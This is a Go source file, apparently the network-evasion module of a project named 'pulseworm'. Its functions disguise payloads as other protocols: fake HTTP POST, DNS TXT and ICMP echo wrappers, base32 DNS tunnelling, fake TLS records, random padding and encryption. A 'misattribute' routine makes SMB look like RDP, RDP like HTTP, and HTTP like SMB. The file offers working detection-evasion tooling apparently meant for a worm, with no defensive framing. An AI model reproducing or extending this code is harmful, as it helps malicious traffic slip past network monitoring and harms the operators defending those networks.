package evasion

import (
	"crypto/rand"
	"encoding/base32"
	"encoding/base64"
	"encoding/binary"
	"encoding/hex"
	"fmt"
	"strings"

	"github.com/google/gopacket"
	"github.com/google/gopacket/layers"
	"github.com/miekg/dns"
	"golang.org/x/crypto/chacha20poly1305"

	"pulseworm/pkg/proto"
)

const (
	// MaxPadding is the largest number of bytes packet padding appends.
	MaxPadding = 512

	maxDNSLabel  = 63
	tunnelDomain = "tunnel.invalid"
)

type mimicKind int

const (
	mimicHTTP mimicKind = iota
	mimicDNS
	mimicICMP
)

var mimicKinds = []mimicKind{mimicHTTP, mimicDNS, mimicICMP}

// morphKinds are the mimicry headers that disguise p as something else.
func morphKinds(p proto.Protocol) []mimicKind {
	var same mimicKind = -1
	switch p {
	case proto.HTTP:
		same = mimicHTTP
	case proto.DNS:
		same = mimicDNS
	}
	out := make([]mimicKind, 0, len(mimicKinds))
	for _, k := range mimicKinds {
		if k != same {
			out = append(out, k)
		}
	}
	return out
}

// mimic prepends a header of another protocol. The original bytes stay a
// contiguous suffix of the result.
func (e *Engine) mimic(payload []byte, kind mimicKind) []byte {
	var hdr []byte
	switch kind {
	case mimicDNS:
		hdr = e.dnsHeader()
	case mimicICMP:
		if pkt, err := e.icmpEcho(payload); err == nil {
			return pkt
		}
	}
	if hdr == nil {
		hdr = []byte(fmt.Sprintf("POST /%s HTTP/1.1\r\nHost: %03d.%03d.com\r\nContent-Length: %d\r\n\r\n",
			e.hexString(16), 1+e.rng.Intn(255), 1+e.rng.Intn(255), len(payload)))
	}
	return append(hdr, payload...)
}

// dnsHeader packs a single-question TXT query with a random label.
func (e *Engine) dnsHeader() []byte {
	m := new(dns.Msg)
	m.SetQuestion(dns.Fqdn(e.hexString(8)+".example.com"), dns.TypeTXT)
	m.Id = uint16(e.rng.Intn(1 << 16))
	hdr, err := m.Pack()
	if err != nil {
		return nil
	}
	return hdr
}

// icmpEcho wraps payload in an ICMPv4 echo request with a valid checksum.
func (e *Engine) icmpEcho(payload []byte) ([]byte, error) {
	icmp := &layers.ICMPv4{
		TypeCode: layers.CreateICMPv4TypeCode(layers.ICMPv4TypeEchoRequest, 0),
		Id:       uint16(e.rng.Intn(1 << 16)),
		Seq:      1,
	}
	buf := gopacket.NewSerializeBuffer()
	opts := gopacket.SerializeOptions{ComputeChecksums: true}
	if err := gopacket.SerializeLayers(buf, opts, icmp, gopacket.Payload(payload)); err != nil {
		return nil, err
	}
	return append([]byte(nil), buf.Bytes()...), nil
}

func (e *Engine) pad(payload []byte) []byte {
	padding := make([]byte, e.rng.Intn(MaxPadding+1))
	e.rng.Read(padding)
	return append(payload, padding...)
}

func (e *Engine) multipart(payload []byte) []byte {
	boundary := "----" + e.hexString(16)
	var b strings.Builder
	b.WriteString("POST /upload HTTP/1.1\r\nContent-Type: multipart/form-data; boundary=")
	b.WriteString(boundary)
	b.WriteString("\r\n\r\n--")
	b.WriteString(boundary)
	b.WriteString("\r\nContent-Disposition: form-data; name=\"file\"; filename=\"data.bin\"\r\n\r\n")
	out := append([]byte(b.String()), payload...)
	return append(out, "\r\n--"+boundary+"--\r\n"...)
}

func (e *Engine) hexString(n int) string {
	b := make([]byte, n)
	e.rng.Read(b)
	return hex.EncodeToString(b)
}

// tunnelRecord frames payload as a TLS application-data record.
func tunnelRecord(payload []byte) []byte {
	out := make([]byte, 5, 5+len(payload))
	out[0], out[1], out[2] = 0x17, 0x03, 0x03
	binary.BigEndian.PutUint16(out[3:5], clampUint16(len(payload)))
	return append(out, payload...)
}

// dnsTunnel base32-encodes payload into DNS labels under tunnelDomain.
func dnsTunnel(payload []byte) []byte {
	encoded := base32.StdEncoding.WithPadding(base32.NoPadding).EncodeToString(payload)
	var labels []string
	for len(encoded) > maxDNSLabel {
		labels = append(labels, encoded[:maxDNSLabel])
		encoded = encoded[maxDNSLabel:]
	}
	if encoded != "" {
		labels = append(labels, encoded)
	}
	labels = append(labels, tunnelDomain)
	return []byte(strings.Join(labels, "."))
}

// seal encrypts payload under a fresh key and nonce. The output is
// nonce || ciphertext || tag. If no randomness is available the payload is
// returned unchanged.
func seal(payload []byte) []byte {
	key := make([]byte, chacha20poly1305.KeySize)
	if _, err := rand.Read(key); err != nil {
		return payload
	}
	aead, err := chacha20poly1305.New(key)
	if err != nil {
		return payload
	}
	nonce := make([]byte, aead.NonceSize(), aead.NonceSize()+len(payload)+aead.Overhead())
	if _, err := rand.Read(nonce); err != nil {
		return payload
	}
	return aead.Seal(nonce, nonce, payload, nil)
}

// SealOverhead is the fixed number of bytes seal adds.
const SealOverhead = chacha20poly1305.NonceSize + chacha20poly1305.Overhead

// misattribute reframes payload so it looks like a different protocol. It
// reports false, leaving payload as is, for protocols it has no disguise for.
func misattribute(payload []byte, actual proto.Protocol) ([]byte, bool) {
	switch actual {
	case proto.SMB:
		// RDP-looking frame: 03 00 00 + length.
		out := make([]byte, 5, 5+len(payload))
		out[0] = 0x03
		binary.BigEndian.PutUint16(out[3:5], clampUint16(len(payload)))
		return append(out, payload...), true
	case proto.RDP:
		enc := base64.StdEncoding.EncodeToString(payload)
		return []byte("GET /" + enc + " HTTP/1.1\r\n\r\n"), true
	case proto.HTTP:
		// NetBIOS session message carrying an SMB2 magic.
		n := len(payload) + 4
		if n > 0xFFFFFF {
			n = 0xFFFFFF
		}
		out := []byte{0x00, byte(n >> 16), byte(n >> 8), byte(n), 0xfe, 'S', 'M', 'B'}
		return append(out, payload...), true
	}
	return payload, false
}

func clampUint16(n int) uint16 {
	if n > 0xFFFF {
		return 0xFFFF
	}
	return uint16(n)
}
